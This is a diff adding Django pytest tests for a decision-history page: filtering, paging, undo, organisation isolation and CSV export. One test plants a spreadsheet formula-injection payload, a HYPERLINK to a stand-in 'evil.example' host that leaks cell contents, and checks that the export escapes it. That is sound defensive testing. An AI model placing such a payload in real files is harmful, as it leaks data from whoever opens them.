@@ -1,0 +1,369 @@
+"""The history of decisions: who sees what of it, how it is narrowed, exported and taken back."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+from collections.abc import Callable
+
+import pytest
+import time_machine
+from django.test import Client
+from pytest_django import DjangoAssertNumQueries
+
+from accounts import selectors as accounts_selectors
+from accounts import services as accounts_services
+from accounts.actors import Actor
+from accounts.models import Membership, User
+from accounts.permissions import Role
+from accounts.services import NewCredential
+from dashboard import exports
+from lists import services as lists_services
+from lists.list_settings import ListSettings
+from lists.models import List
+from review import activity, services, transitions
+from review.models import Decision, MatchCandidate, State
+from tests import bare_pairs
+
+QUERIES = 9
+
+
+@pytest.fixture
+def analyst(make_user: Callable[..., User]) -> User:
+    return make_user(Role.ANALYST)
+
+
+@pytest.fixture
+def browser(analyst: User) -> Client:
+    client = Client()
+    client.force_login(analyst)
+    return client
+
+
+@pytest.fixture
+def by_analyst(analyst: User) -> Actor:
+    return accounts_selectors.actor_for_user(analyst)
+
+
+def shown(browser: Client, **asked: str) -> list[tuple[str, str]]:
+    """Return (match id, act) of the rows of the page."""
+    rows = browser.get("/activity/", asked).context["page"].rows
+    return [(deed.pair.candidate.public_id, deed.decision.act) for deed in rows]
+
+
+def exported(browser: Client, **asked: str) -> list[dict[str, str]]:
+    answer = browser.get("/activity/export/", asked)
+    assert answer.status_code == 200
+    return list(csv.DictReader(io.StringIO(answer.getvalue().decode("utf-8-sig"))))
+
+
+def test_every_decision_is_shown_with_who_when_what_and_from_where(
+    browser: Client,
+    analyst: User,
+    by_analyst: Actor,
+    credential: NewCredential,
+    image_list: List,
+) -> None:
+    first, second, third = bare_pairs.make(3, image_list)
+    program = accounts_selectors.actor_for_credential(credential.credential)
+    with time_machine.travel(dt.datetime(2026, 3, 1, 9, 30, tzinfo=dt.UTC), tick=False):
+        services.dissociate(by=by_analyst, candidate=first, note="Another <b>shop</b>")
+    services.confirm(by=program, candidate=second)
+    transitions.auto_confirm(third)
+
+    deeds = browser.get("/activity/").context["page"].rows
+    page = browser.get("/activity/").content.decode()
+
+    assert [deed.decision.get_surface_display() for deed in deeds] == ["System", "API", "Browser"]
+    assert [deed.algorithm_version for deed in deeds] == [7, 7, 7]
+    for words in (
+        analyst.email,
+        "Check",  # the credential
+        "Confirmed by the list’s policy".replace("’", "&#x27;"),
+        "March 1, 2026, 9:30 a.m.",
+        "Another &lt;b&gt;shop&lt;/b&gt;",
+        "0.90",
+        "Near copy",
+        f"/review/pair/{first.public_id}/",
+    ):
+        assert words in page
+
+
+def test_the_page_goes_on_where_it_ended(
+    browser: Client, by_analyst: Actor, image_list: List
+) -> None:
+    pairs = bare_pairs.make(90, image_list)
+    for pair in pairs:
+        services.confirm(by=by_analyst, candidate=pair)
+
+    seen, after = [], ""
+    for _ in range(3):
+        page = browser.get("/activity/", {"after": after}).context["page"]
+        seen += [deed.pair.candidate.pk for deed in page.rows]
+        after = str(page.next_after)
+
+    assert seen == [pair.pk for pair in reversed(pairs)]
+    assert after == "None"
+
+
+@pytest.mark.parametrize("count", [1, 30])
+def test_the_page_asks_as_much_for_many_rows_as_for_one(
+    browser: Client,
+    by_analyst: Actor,
+    image_list: List,
+    django_assert_num_queries: DjangoAssertNumQueries,
+    count: int,
+) -> None:
+    for pair in bare_pairs.make(count, image_list):
+        services.confirm(by=by_analyst, candidate=pair)
+        services.undo(by=by_analyst, candidate=pair)
+
+    with django_assert_num_queries(QUERIES):
+        assert len(browser.get("/activity/").context["page"].rows) == min(2 * count, 40)
+
+
+def test_it_is_narrowed_by_who_what_list_and_day(
+    browser: Client,
+    analyst: User,
+    by_analyst: Actor,
+    admin: Actor,
+    credential: NewCredential,
+    image_list: List,
+) -> None:
+    other = lists_services.create_list(by=admin, settings=ListSettings(name="Other"))
+    ours, programs, systems = bare_pairs.make(3, image_list)
+    (elsewhere,) = bare_pairs.make(1, other)
+    with time_machine.travel(dt.datetime(2026, 3, 1, 23, 59, 59, tzinfo=dt.UTC), tick=False):
+        services.confirm(by=by_analyst, candidate=ours)
+    with time_machine.travel(dt.datetime(2026, 3, 2, tzinfo=dt.UTC), tick=False):
+        services.dissociate(by=admin, candidate=elsewhere)
+    services.confirm(
+        by=accounts_selectors.actor_for_credential(credential.credential), candidate=programs
+    )
+    transitions.auto_confirm(systems)
+
+    def found(**asked: str) -> list[str]:
+        return [match_id for match_id, _act in shown(browser, **asked)]
+
+    assert found(who=f"person-{analyst.pk}") == [ours.public_id]
+    assert found(who=credential.credential.public_id) == [programs.public_id]
+    assert found(who="system") == [systems.public_id]
+    assert found(what="dissociate") == [elsewhere.public_id]
+    assert found(list=other.public_id) == [elsewhere.public_id]
+    assert found(until="2026-03-01") == [ours.public_id]
+    assert found(since="2026-03-02", until="2026-03-02") == [elsewhere.public_id]
+    assert found(list=image_list.public_id, what="confirm", until="2026-03-02") == [ours.public_id]
+    assert found(until="9999-12-31", since="0001-01-01", after="x" * 40) == found()
+
+
+def test_a_filter_that_makes_no_sense_is_named_and_exports_nothing(
+    browser: Client, by_analyst: Actor, image_list: List
+) -> None:
+    (pair,) = bare_pairs.make(1, image_list)
+    services.confirm(by=by_analyst, candidate=pair)
+
+    page = browser.get("/activity/", {"who": "person-999999", "since": "soon"})
+
+    assert "Enter a valid date." in page.content.decode()
+    assert "is not one of the available choices" in page.content.decode()
+    assert browser.get("/activity/export/", {"since": "soon"}).status_code == 400
+
+
+def test_who_decided_is_still_found_after_they_left(
+    browser: Client, admin: Actor, make_user: Callable[..., User], image_list: List
+) -> None:
+    (pair,) = bare_pairs.make(1, image_list)
+    member = accounts_services.add_member(by=admin, email="lena@example.org", role=Role.ANALYST)
+    lena = member.membership.user
+    services.confirm(by=accounts_selectors.actor_for_user(lena), candidate=pair)
+    accounts_services.remove_member(by=admin, membership=Membership.objects.get(user=lena))
+
+    assert shown(browser, who=f"person-{lena.pk}") == [(pair.public_id, "confirm")]
+
+
+def test_organisations_never_see_each_others_decisions(
+    browser: Client,
+    by_analyst: Actor,
+    stranger: Actor,
+    stranger_credential: NewCredential,
+    image_list: List,
+) -> None:
+    foreign = lists_services.create_list(by=stranger, settings=ListSettings(name="Their list"))
+    (pair,) = bare_pairs.make(1, image_list)
+    theirs, programs = bare_pairs.make(2, foreign)
+    services.confirm(by=by_analyst, candidate=pair)
+    services.confirm(by=stranger, candidate=theirs, note="Their note")
+    services.confirm(
+        by=accounts_selectors.actor_for_credential(stranger_credential.credential),
+        candidate=programs,
+    )
+    stranger_email = User.objects.get(membership__organisation=stranger.organisation_id).email
+
+    ours = shown(browser)
+    page = browser.get("/activity/").content.decode()
+    foreign_asked = {"who": f"person-{stranger.user_id}", "list": foreign.public_id}
+
+    assert ours == [(pair.public_id, "confirm")]
+    assert shown(browser, **foreign_asked) == ours
+    assert [row["match_id"] for row in exported(browser)] == [pair.public_id]
+    for word in ("Their list", "Their note", stranger_email, "Stranger"):
+        assert word not in page
+
+
+def test_a_rejected_pair_is_restored_by_somebody_else(
+    browser: Client, admin: Actor, image_list: List
+) -> None:
+    (pair,) = bare_pairs.make(1, image_list)
+    services.dissociate(by=admin, candidate=pair)
+    page = browser.get("/activity/").content.decode()
+    assert "Restore" in page
+
+    answer = browser.post(
+        f"/activity/{pair.public_id}/undo/?what=dissociate", {"version": "2"}, follow=True
+    )
+
+    assert answer.redirect_chain == [("/activity/?what=dissociate", 302)]
+    assert "The decision was taken back. The pair is “To review” again." in answer.content.decode()
+    assert "Taken back" in answer.content.decode()
+    pair.refresh_from_db()
+    assert pair.state == State.SUGGESTED
+
+
+def test_only_the_last_standing_decision_of_a_pair_is_offered(
+    browser: Client, admin: Actor, image_list: List
+) -> None:
+    (pair,) = bare_pairs.make(1, image_list)
+    services.confirm(by=admin, candidate=pair)
+    services.dissociate(by=admin, candidate=pair)
+
+    def offered() -> list[tuple[str, bool]]:
+        rows = browser.get("/activity/").context["page"].rows
+        return [(deed.decision.act, deed.is_last) for deed in rows]
+
+    assert offered() == [("dissociate", True), ("confirm", False)]
+    browser.post(f"/activity/{pair.public_id}/undo/", {"version": "3"})
+    assert offered() == [("undo", False), ("dissociate", False), ("confirm", True)]
+    pair.refresh_from_db()
+    assert pair.state == State.CONFIRMED
+
+
+def test_an_undo_of_what_somebody_changed_since_is_refused_with_reasons(
+    browser: Client, admin: Actor, image_list: List
+) -> None:
+    (pair,) = bare_pairs.make(1, image_list)
+    services.confirm(by=admin, candidate=pair)
+    services.dissociate(by=admin, candidate=pair)
+
+    answer = browser.post(f"/activity/{pair.public_id}/undo/?what=confirm", {"version": "2"})
+
+    assert answer.status_code == 409
+    assert "Somebody has decided this pair meanwhile: it is Not a match." in answer.content.decode()
+    assert [deed.decision.act for deed in answer.context["page"].rows] == ["confirm"]
+    pair.refresh_from_db()
+    assert pair.state == State.DISSOCIATED
+
+
+def test_an_undo_without_anything_to_undo_is_refused(browser: Client, image_list: List) -> None:
+    (pair,) = bare_pairs.make(1, image_list)
+
+    answer = browser.post(f"/activity/{pair.public_id}/undo/", {"version": "1"})
+
+    assert answer.status_code == 409
+    assert "There is no decision about this pair left to undo." in answer.content.decode()
+    assert browser.post(f"/activity/{pair.public_id}/undo/").status_code == 400
+
+
+def test_the_export_holds_the_rows_of_the_filter(
+    browser: Client, analyst: User, by_analyst: Actor, image_list: List
+) -> None:
+    first, second = bare_pairs.make(2, image_list)
+    services.confirm(by=by_analyst, candidate=first, note="a, “b”\nc")
+    services.dissociate(by=by_analyst, candidate=second)
+
+    (row,) = exported(browser, what="confirm")
+
+    assert len(exported(browser)) == 2
+    assert tuple(row) == exports.COLUMNS
+    assert row["who"] == analyst.email
+    assert row["note"] == "a, “b”\nc"
+    assert (row["surface"], row["act"], row["from"], row["to"]) == (
+        "browser",
+        "confirm",
+        "suggested",
+        "confirmed",
+    )
+    assert (row["match_id"], row["score"], row["algorithm_version"]) == (
+        first.public_id,
+        "0.9000",
+        "7",
+    )
+
+
+def test_no_cell_of_the_export_is_a_formula(
+    browser: Client, by_analyst: Actor, admin: Actor, image_list: List
+) -> None:
+    evil = '=HYPERLINK("http://evil.example/?"&A1)'
+    lists_services.change_list(
+        by=admin, image_list=image_list, settings=ListSettings(name="@SUM(1)")
+    )
+    (pair,) = bare_pairs.make(1, image_list)
+    services.confirm(by=by_analyst, candidate=pair, note=evil)
+
+    (row,) = exported(browser)
+
+    assert row["note"] == f"'{evil}"
+    assert row["list"] == "'@SUM(1)"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\uff1d"])
+def test_every_way_to_begin_a_formula_is_made_plain_text(start: str) -> None:
+    assert exports.harmless(f"{start}1+1") == f"'{start}1+1"
+    assert exports.harmless(f"plain {start}1") == f"plain {start}1"
+
+
+def test_the_export_is_streamed_page_by_page_and_bounded(
+    browser: Client,
+    by_analyst: Actor,
+    image_list: List,
+    monkeypatch: pytest.MonkeyPatch,
+    django_assert_num_queries: DjangoAssertNumQueries,
+) -> None:
+    pairs = bare_pairs.make(7, image_list)
+    for pair in pairs:
+        services.confirm(by=by_analyst, candidate=pair)
+    monkeypatch.setattr(activity, "_EXPORTED_AT_ONCE", 2)
+    monkeypatch.setattr(exports, "MAX_ROWS", 5)
+
+    answer = browser.get("/activity/export/")
+    lines = iter(answer)
+    next(lines)
+    with django_assert_num_queries(2):  # a page of decisions, and the items of their pictures
+        next(lines)
+        next(lines)
+    rest = [next(lines) for _ in range(3)]
+
+    assert next(lines, None) is None
+    assert len(rest) == 3
+    assert answer["Content-Type"] == "text/csv; charset=utf-8"
+    assert answer["Cache-Control"] == "private, no-store"
+
+
+def test_the_history_of_a_pair_tells_surface_note_and_algorithm(
+    browser: Client, by_analyst: Actor, credential: NewCredential, image_list: List
+) -> None:
+    (pair,) = bare_pairs.make(1, image_list)
+    services.confirm(by=by_analyst, candidate=pair, note="Same shop")
+    services.dissociate(
+        by=accounts_selectors.actor_for_credential(credential.credential), candidate=pair
+    )
+
+    page = browser.get(f"/review/pair/{pair.public_id}/").content.decode()
+    history = page[page.index('id="history"') :]
+
+    assert "a checked picture" in history
+    assert history.index("Check") < history.index("API") < history.index("Browser")
+    assert "Same shop" in history
+    assert "by version <bdi>7</bdi> of the algorithm" in history
+    assert Decision.objects.count() == 2
+    assert MatchCandidate.objects.count() == 1
